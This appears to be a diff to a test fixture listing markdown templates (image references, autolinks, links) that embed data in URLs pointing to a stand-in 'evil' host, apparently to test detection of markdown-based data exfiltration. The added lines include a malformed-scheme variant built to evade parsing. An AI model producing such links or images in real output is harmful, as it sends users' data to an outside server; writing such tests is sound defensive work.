@@ -21,7 +21,13 @@ export const forms: Readonly<Record<string, readonly string[]>> = {
     `> ![s]\n>\n> [s]: ${url}`,
     `![s][a b]\n\n[a\nb]: //${evil}/i.png?d=${d}`,
   ],
-  autolink: [`<${url}>`, `see <HTTPS://${evil}/?d=${d}>.`, `<ftp://${evil}/${d}>`],
+  autolink: [
+    `<${url}>`,
+    `see <HTTPS://${evil}/?d=${d}>.`,
+    `<ftp://${evil}/${d}>`,
+    `https://${url}`,
+    `https:\\/x.http://${evil}/${d}`,
+  ],
   'link with data in its query': [
     `[report](${url})`,
     `[report](<${url}>)`,
